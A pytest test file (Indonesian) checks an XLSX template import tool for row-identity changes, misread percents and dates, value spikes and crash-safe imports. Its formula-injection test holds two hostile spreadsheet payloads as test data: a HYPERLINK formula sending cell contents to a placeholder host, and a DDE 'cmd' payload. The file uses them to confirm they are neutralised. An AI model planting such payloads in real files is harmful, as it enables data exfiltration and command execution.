"""Isu 16: buku kerja yang maknanya berubah ditolak; templat tanpa rumus; impor semua-atau-tidak, juga bila dibunuh.

Kasus yang menyangkut perilaku LibreOffice memakai buku kerja yang benar-benar
ditulis LibreOffice (``soffice --headless --convert-to xlsx``); tes itu
dilewati hanya bila ``soffice`` tidak terpasang (``.ci/run`` memasangnya).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import openpyxl
import pytest

from analisis import cli
from analisis.core import data
from analisis.core.kesalahan import KesalahanData, KesalahanParameter
from analisis.input import impor, xlsx

AKAR = Path(__file__).resolve().parents[1]
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
perlu_libreoffice = pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) tidak terpasang")



@pytest.fixture
def terisi(folder, tmp_path, bantu) -> Path:
    jalur = xlsx.buat_templat(2026, keluaran=tmp_path / "isian_2026.xlsx", folder=folder)
    bantu.isi_penuh(jalur)
    return jalur


# ----------------------------------------------------------------------------
# 1. identitas baris


@perlu_libreoffice
def test_libreoffice_pulang_pergi_utuh_diterima(folder, terisi, tmp_path, bantu):
    """Buku kerja yang hanya dibuka dan disimpan LibreOffice tetap diterima (identitas baris ikut tersimpan)."""
    lo = bantu.lewat_libreoffice(terisi, tmp_path)
    h = impor.rencanakan(lo, folder=folder)
    assert {p.berkas: len(p.ditambah) for p in h.perubahan}["ppks_pas.csv"] == 28


@perlu_libreoffice
def test_baris_dihapus_ditolak_setelah_libreoffice(folder, terisi, tmp_path, bantu):
    """Isu 16.1: baris FAKIR MISKIN dihapus → ditolak dengan lembar dan baris, bukan "27 ditambah"."""
    wb = openpyxl.load_workbook(terisi)
    ws = wb["PPKS per PAS"]
    r = bantu.cari_baris(ws, "Jenis PPKS", "Fakir Miskin")
    ws.delete_rows(r)
    wb.save(terisi)
    lo = bantu.lewat_libreoffice(terisi, tmp_path)
    pesan = bantu.tolak(lo, folder, f"lembar 'PPKS per PAS', baris {r}", "seharusnya '12 | FAKIR MISKIN | Fakir Miskin",
                   "baris dihapus, disisipkan, dipindah")
    assert "ditambah" not in pesan


@pytest.mark.parametrize("ubah, baris_pesan", [
    ("sisip", "baris 6"), ("pindah", "baris 5"), ("ketik_ulang", "baris 5"), ("tambah_di_bawah", "baris 33"),
])
def test_baris_disisipkan_dipindah_diketik_ulang_ditolak(folder, terisi, ubah, baris_pesan, bantu):
    wb = openpyxl.load_workbook(terisi)
    ws = wb["PPKS per PAS"]
    c_jenis = bantu.kolom(ws, "Jenis PPKS")
    if ubah == "sisip":
        ws.insert_rows(6)
        ws.cell(6, c_jenis).value = "Kategori baru"
        ws.cell(6, bantu.kolom(ws, "Terdata (jiwa)")).value = 10
    elif ubah == "pindah":
        a, b = ws.cell(5, c_jenis).value, ws.cell(6, c_jenis).value
        ws.cell(5, c_jenis).value, ws.cell(6, c_jenis).value = b, a
    elif ubah == "ketik_ulang":
        ws.cell(5, c_jenis).value = ws.cell(5, c_jenis).value + "x"
    else:
        ws.cell(33, c_jenis).value = "Kategori tambahan"
        ws.cell(33, bantu.kolom(ws, "Terdata (jiwa)")).value = 5
    wb.save(terisi)
    bantu.tolak(terisi, folder, f"lembar 'PPKS per PAS', {baris_pesan}")


def test_sel_gabungan_disebut(folder, terisi, bantu):
    wb = openpyxl.load_workbook(terisi)
    wb["PSKS"].merge_cells("F6:G6")
    wb.save(terisi)
    bantu.tolak(terisi, folder, "lembar 'PSKS', baris 6, kolom 'F6:G6'", "sel digabung (merge)")


# ----------------------------------------------------------------------------
# 2. angka sebagaimana dimaksud buku kerja


def _templat_triwulan(folder: Path, tmp_path: Path) -> Path:
    return xlsx.buat_templat(2026, "Triwulan I", keluaran=tmp_path / "tw1.xlsx", folder=folder)


@perlu_libreoffice
def test_sel_persen_dibaca_sebagai_persen(folder, tmp_path, bantu):
    """Isu 16.2: "85%" diketik di sel isian → 85, bukan 0,85 (IKK-01 diisi pembilang dan penyebut: 85 / 100)."""
    t = _templat_triwulan(folder, tmp_path)
    wb = openpyxl.load_workbook(t)
    ws = wb["Realisasi IKU-IKK"]
    r = bantu.cari_baris(ws, "Kode", "IKK-01")
    sel = ws.cell(r, bantu.kolom(ws, "Pembilang"))
    sel.value, sel.number_format = 0.85, "0%"  # yang disimpan Excel/LibreOffice untuk ketikan "85%"
    ws.cell(r, bantu.kolom(ws, "Penyebut")).value = 100
    wb.save(t)
    lo = bantu.lewat_libreoffice(t, tmp_path)
    assert "%" in openpyxl.load_workbook(lo)["Realisasi IKU-IKK"].cell(r, sel.column).number_format
    impor.impor(lo, folder=folder)
    real = data.muat("realisasi", folder)
    baris = real[(real["kode"] == "IKK-01") & (real["tahun"] == 2026) & (real["periode"] == "Triwulan I")]
    assert baris["realisasi"].tolist() == [85]


def test_sel_tanggal_di_kolom_angka_ditolak(folder, tmp_path, bantu):
    """Isu 16.2: "1/2" yang diubah spreadsheet menjadi tanggal (46054) ditolak."""
    t = _templat_triwulan(folder, tmp_path)
    wb = openpyxl.load_workbook(t)
    ws = wb["PPKS per PAS"]
    sel = ws.cell(xlsx.BARIS_DATA, bantu.kolom(ws, "Terdata (jiwa)"))
    sel.value, sel.number_format = dt.datetime(2026, 1, 2), "d/m/yyyy"
    wb.save(t)
    bantu.tolak(t, folder, "lembar 'PPKS per PAS', baris 5, kolom 'Terdata (jiwa) [H]'", "sel berformat tanggal/waktu")


def test_persen_di_atas_100_ditolak(folder, tmp_path, bantu):
    t = _templat_triwulan(folder, tmp_path)
    wb = openpyxl.load_workbook(t)
    ws = wb["Realisasi IKU-IKK"]
    ws.cell(bantu.cari_baris(ws, "Kode", "IKK-01"), bantu.kolom(ws, "Realisasi")).value = 120
    wb.save(t)
    bantu.tolak(t, folder, "lembar 'Realisasi IKU-IKK'", "nilai '120': persentase lebih dari 100")


def test_lonjakan_perlu_konfirmasi(folder, tmp_path, capsys, bantu):
    """Isu 16.2: "41.000" di lokal Inggris menjadi 41 terhadap 40.241 periode lalu → ditolak, kecuali --terima-lonjakan."""
    t = _templat_triwulan(folder, tmp_path)
    wb = openpyxl.load_workbook(t)
    ws = wb["PPKS per PAS"]
    r = bantu.cari_baris(ws, "Jenis PPKS", "Fakir Miskin")
    assert ws.cell(r, bantu.kolom(ws, "Terdata periode lalu")).value == 40241
    ws.cell(r, bantu.kolom(ws, "Terdata (jiwa)")).value = 41
    ws.cell(r, bantu.kolom(ws, "Tertangani (jiwa)")).value = 30
    wb.save(t)
    bantu.tolak(t, folder, f"lembar 'PPKS per PAS', baris {r}, kolom 'Terdata (jiwa) [H]', nilai '41'",
           "lebih dari 10 kali lipat dari nilai Triwulan I 2025 (40.241)", "--terima-lonjakan")
    assert cli.main(["impor", str(t)]) == 2
    assert "--terima-lonjakan" in capsys.readouterr().err
    assert cli.main(["impor", str(t), "--terima-lonjakan"]) == 0
    keluar = capsys.readouterr().out
    assert "Peringatan (diterima dengan --terima-lonjakan)" in keluar
    ppks = data.muat("ppks_pas", folder)
    assert ppks[(ppks["tahun"] == 2026) & (ppks["jenis"] == "Fakir Miskin")]["terdata"].tolist() == [41]


# ----------------------------------------------------------------------------
# 3. injeksi rumus


def _ganti_kolom(jalur: Path, kolom: str, nilai: str, baris: int = 1) -> None:
    rows = list(csv.reader(io.StringIO(jalur.read_text(encoding="utf-8"), newline="")))
    rows[baris][rows[0].index(kolom)] = nilai
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    jalur.write_text(buf.getvalue(), encoding="utf-8")


RUMUS_JAHAT = '=HYPERLINK("http://contoh.invalid/?"&A1,"Data")'


@perlu_libreoffice
def test_teks_berawalan_rumus_ditulis_sebagai_teks(folder, tmp_path, bantu):
    """Isu 16.3: teks dari data/ berawalan =, +, -, @ ditulis sebagai teks; LibreOffice tidak menjalankannya."""
    _ganti_kolom(folder / "indikator.csv", "nama", RUMUS_JAHAT)
    _ganti_kolom(folder / "indikator.csv", "penanggung_jawab", "@SUM(1+1)*cmd|' /C calc'!A0", baris=2)
    t = _templat_triwulan(folder, tmp_path)
    wb = openpyxl.load_workbook(t)
    rumus = [(ws.title, c.coordinate) for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert rumus == []  # templat tidak memuat satu rumus pun
    ws = wb["Realisasi IKU-IKK"]
    sel = ws.cell(xlsx.BARIS_DATA, bantu.kolom(ws, "Indikator"))
    assert (sel.value, sel.data_type, sel.quotePrefix) == (RUMUS_JAHAT, "s", True)
    lo = bantu.lewat_libreoffice(t, tmp_path)
    for data_only in (False, True):
        ws = openpyxl.load_workbook(lo, data_only=data_only)["Realisasi IKU-IKK"]
        assert ws.cell(xlsx.BARIS_DATA, bantu.kolom(ws, "Indikator")).value == RUMUS_JAHAT
    wb = openpyxl.load_workbook(lo)
    assert [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"] == []


# ----------------------------------------------------------------------------
# 8. iku templat tidak menimpa


def test_templat_tidak_menimpa_tanpa_timpa(folder, tmp_path, capsys):
    tujuan = tmp_path / "realisasi.xlsx"
    tujuan.write_bytes(b"isian bidang yang belum diimpor")
    argv = ["templat", "--tahun", "2026", "--keluaran", str(tujuan)]
    assert cli.main(argv) == 2
    err = capsys.readouterr().err
    assert "sudah ada" in err and "--timpa" in err and "Traceback" not in err
    assert tujuan.read_bytes() == b"isian bidang yang belum diimpor"
    assert cli.main(argv + ["--timpa"]) == 0
    assert openpyxl.load_workbook(tujuan).sheetnames[0] == xlsx.LEMBAR_PETUNJUK
    assert not list(tmp_path.glob(".*.tmp"))


@pytest.mark.parametrize("tujuan, pesan", [
    ("data/ppks_pas.csv", "hanya ditulis ke berkas berakhiran .xlsx"),
    ("folder.xlsx/", "jalur itu sebuah folder"),
])
def test_templat_keluaran_salah_ditolak(folder, tmp_path, capsys, tujuan, pesan, bantu):
    if tujuan.startswith("data/"):
        jalur = folder / "ppks_pas.csv"
    else:
        jalur = tmp_path / "folder.xlsx"
        jalur.mkdir()
    sebelum = bantu.potret(folder)
    assert cli.main(["templat", "--tahun", "2026", "--keluaran", str(jalur), "--timpa"]) == 2
    err = capsys.readouterr().err
    assert pesan in err and "Traceback" not in err and len(err.splitlines()) == 1
    assert bantu.potret(folder) == sebelum


# ----------------------------------------------------------------------------
# 7/10. disk penuh dan impor yang dibunuh


def _env(folder: Path, **tambahan) -> dict:
    env = dict(os.environ, IKU_DATA=str(folder), IKU_ROOT=str(AKAR), PYTHONPATH=str(AKAR / "src"))
    env.update(tambahan)
    return env


def _isi_triwulan(bantu, folder: Path, tmp_path: Path) -> Path:
    """Templat Triwulan II 2026 yang mengubah tiga berkas (ppks_pas, realisasi, sakip)."""
    t = xlsx.buat_templat(2026, "Triwulan II", keluaran=tmp_path / "tw2.xlsx", folder=folder)
    wb = openpyxl.load_workbook(t)
    ws = wb["PPKS per PAS"]
    for r in range(xlsx.BARIS_DATA, ws.max_row + 1):
        for j_lalu, j in (("Terdata periode lalu", "Terdata (jiwa)"), ("Tertangani periode lalu", "Tertangani (jiwa)")):
            ws.cell(r, bantu.kolom(ws, j)).value = ws.cell(r, bantu.kolom(ws, j_lalu)).value
    ws = wb["Realisasi IKU-IKK"]
    r = bantu.cari_baris(ws, "Kode", "IKK-01")
    ws.cell(r, bantu.kolom(ws, "Pembilang")).value, ws.cell(r, bantu.kolom(ws, "Penyebut")).value = 50, 100
    ws = wb["SAKIP"]
    ws.cell(xlsx.BARIS_DATA, bantu.kolom(ws, "Nilai SAKIP")).value = 61
    wb.save(t)
    return t


def test_disk_penuh_saat_impor(folder, tmp_path, bantu):
    """Isu 16.7: disk penuh saat menulis impor → satu pesan, data/ utuh, tidak ada .tmp 0 bita tertinggal."""
    t = _isi_triwulan(bantu, folder, tmp_path)
    sebelum = bantu.potret(folder)
    skrip = (
        "import errno, sys\n"
        "from analisis.input import impor\n"
        "def penuh(jalur, isi, mode=0o644):\n"
        "    open(jalur, 'wb').close()\n"
        "    raise OSError(errno.ENOSPC, 'No space left on device', str(jalur))\n"
        "impor._tulis_bita = penuh\n"
        "from analisis import cli\n"
        f"sys.exit(cli.main(['impor', {str(t)!r}]))\n"
    )
    p = subprocess.run([sys.executable, "-c", skrip], env=_env(folder), capture_output=True, text=True, timeout=300)
    assert p.returncode == 2, p.stderr
    assert "ruang disk penuh" in p.stderr and "tidak ada berkas data yang diubah" in p.stderr
    assert "Traceback" not in p.stderr
    assert bantu.potret(folder) == sebelum
    assert [x.name for x in folder.iterdir() if x.name.startswith(".")] == []


def test_impor_dibunuh_di_antara_penggantian_diselesaikan(folder, tmp_path, bantu):
    """Isu 16.10: impor dibunuh (SIGKILL) setelah berkas pertama diganti → perintah iku berikutnya menyelesaikannya."""
    t = _isi_triwulan(bantu, folder, tmp_path)
    sebelum = bantu.potret(folder)
    proses = subprocess.Popen([sys.executable, "-m", "analisis.cli", "impor", str(t)],
                              env=_env(folder, IKU_UJI_JEDA_IMPOR="120"), stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        batas = time.monotonic() + 240
        while time.monotonic() < batas:
            berubah = [n for n, b in bantu.potret(folder).items() if not n.startswith(".") and sebelum.get(n) != b]
            if berubah:
                break
            assert proses.poll() is None, proses.communicate()
            time.sleep(0.2)
        else:
            pytest.fail("impor tidak mencapai penggantian pertama")
    finally:
        proses.send_signal(signal.SIGKILL)
        proses.wait()
    # setengah jadi: satu berkas baru, jurnal dan panggung masih ada
    assert len(berubah) == 1
    assert (folder / impor.JURNAL).exists() and (folder / impor.PANGGUNG).is_dir()
    p = subprocess.run([sys.executable, "-m", "analisis.cli", "impor", str(t), "--coba"], env=_env(folder),
                       capture_output=True, text=True, timeout=300)
    assert p.returncode == 0, p.stderr
    assert "Impor yang terputus diselesaikan dari jurnal" in p.stderr
    assert "Tidak ada perubahan" in p.stdout  # seluruh isian sudah ada di data/
    sesudah = bantu.potret(folder)
    assert sorted(n for n in sesudah if sebelum.get(n) != sesudah[n]) == ["ppks_pas.csv", "realisasi.csv", "sakip.csv"]
    assert [x.name for x in folder.iterdir() if x.name.startswith(".")] == []
    assert data.periksa_semua(folder) == []


def test_sisa_impor_tanpa_jurnal_dibuang(folder, bantu):
    """Impor yang mati sebelum jurnal ditulis: panggung dan .tmp dihapus, data/ tidak berubah."""
    sebelum = bantu.potret(folder)
    (folder / impor.PANGGUNG).mkdir()
    (folder / impor.PANGGUNG / "ppks_pas.csv").write_text("setengah", encoding="utf-8")
    (folder / ".ppks_pas.csv.abc123.tmp").write_bytes(b"")
    pesan = impor.pulihkan(folder)
    assert any("dibatalkan" in p for p in pesan) and any(".ppks_pas.csv.abc123.tmp" in p for p in pesan)
    assert bantu.potret(folder) == sebelum


# ----------------------------------------------------------------------------
# kewajaran pembilang dan penyebut indikator rasio (issue 12 §4)


def _isi_rasio(jalur: Path, bantu, kode: str, pembilang, penyebut) -> int:
    wb = openpyxl.load_workbook(jalur)
    ws = wb["Realisasi IKU-IKK"]
    r = bantu.cari_baris(ws, "Kode", kode)
    ws.cell(r, bantu.kolom(ws, "Pembilang")).value = pembilang
    ws.cell(r, bantu.kolom(ws, "Penyebut")).value = penyebut
    wb.save(jalur)
    return r


@perlu_libreoffice
def test_penyebut_ikk13_lain_dari_banyaknya_kecamatan_perlu_konfirmasi(folder, tmp_path, capsys, bantu):
    """DO IKK 13 membagi dengan Σ kecamatan di kabupaten (10, data/instansi.yaml): penyebut 100 ditolak kecuali dikonfirmasi."""
    t = _templat_triwulan(folder, tmp_path)
    r = _isi_rasio(t, bantu, "IKK-13", 7, 100)
    lo = bantu.lewat_libreoffice(t, tmp_path)
    ws = openpyxl.load_workbook(lo)["Realisasi IKU-IKK"]
    huruf = openpyxl.utils.get_column_letter(bantu.kolom(ws, "Penyebut"))
    bantu.tolak(lo, folder, f"lembar 'Realisasi IKU-IKK', baris {r}, kolom 'Penyebut [{huruf}]', nilai '100'",
                "penyebut IKK-13 menurut Definisi Operasional adalah Σ kecamatan di kabupaten = 10",
                "data/instansi.yaml jumlah_kecamatan", "--terima-lonjakan")
    assert cli.main(["impor", str(lo)]) == 2
    err = capsys.readouterr().err
    assert "Penyebut" in err and "--terima-lonjakan" in err and "Traceback" not in err
    h = impor.impor(lo, folder=folder, terima_lonjakan=True)
    assert any("jumlah_kecamatan" in str(p) for p in h.peringatan)
    real = data.muat("realisasi", folder)
    assert real.loc[real["kode"] == "IKK-13", "realisasi"].tolist() == [pytest.approx(7)]


def test_penyebut_ikk13_sama_dengan_banyaknya_kecamatan_diterima(folder, tmp_path, bantu):
    t = _templat_triwulan(folder, tmp_path)
    _isi_rasio(t, bantu, "IKK-13", 7, 10)
    h = impor.impor(t, folder=folder)
    assert h.peringatan == []
    real = data.muat("realisasi", folder)
    assert real.loc[real["kode"] == "IKK-13", "realisasi"].tolist() == [70]


@perlu_libreoffice
def test_pembilang_melonjak_dari_periode_lalu_perlu_konfirmasi(folder, tmp_path, bantu):
    """Pembilang IKK-01 Triwulan I 47 dari 50; Triwulan II 4,6 (lebih dari 10 kali lebih kecil) → ditolak dengan nilai lalu."""
    t1 = _templat_triwulan(folder, tmp_path)
    _isi_rasio(t1, bantu, "IKK-01", 47, 50)
    impor.impor(t1, folder=folder)
    t2 = xlsx.buat_templat(2026, "Triwulan II", keluaran=tmp_path / "tw2.xlsx", folder=folder)
    r = _isi_rasio(t2, bantu, "IKK-01", 4.6, 50)
    lo = bantu.lewat_libreoffice(t2, tmp_path)
    ws = openpyxl.load_workbook(lo)["Realisasi IKU-IKK"]
    huruf = openpyxl.utils.get_column_letter(bantu.kolom(ws, "Pembilang"))
    pesan = bantu.tolak(lo, folder, f"lembar 'Realisasi IKU-IKK', baris {r}, kolom 'Pembilang [{huruf}]', nilai '4.6'",
                        "pembilang IKK-01 berbeda lebih dari 10 kali lipat dari pembilang Triwulan I 2026 (47)",
                        "--terima-lonjakan")
    assert "Penyebut [" not in pesan  # penyebut 50 sama dengan periode lalu
    impor.impor(lo, folder=folder, terima_lonjakan=True)
    real = data.muat("realisasi", folder)
    assert real.loc[(real["kode"] == "IKK-01") & (real["periode"] == "Triwulan II"), "realisasi"].tolist() == [pytest.approx(9.2)]
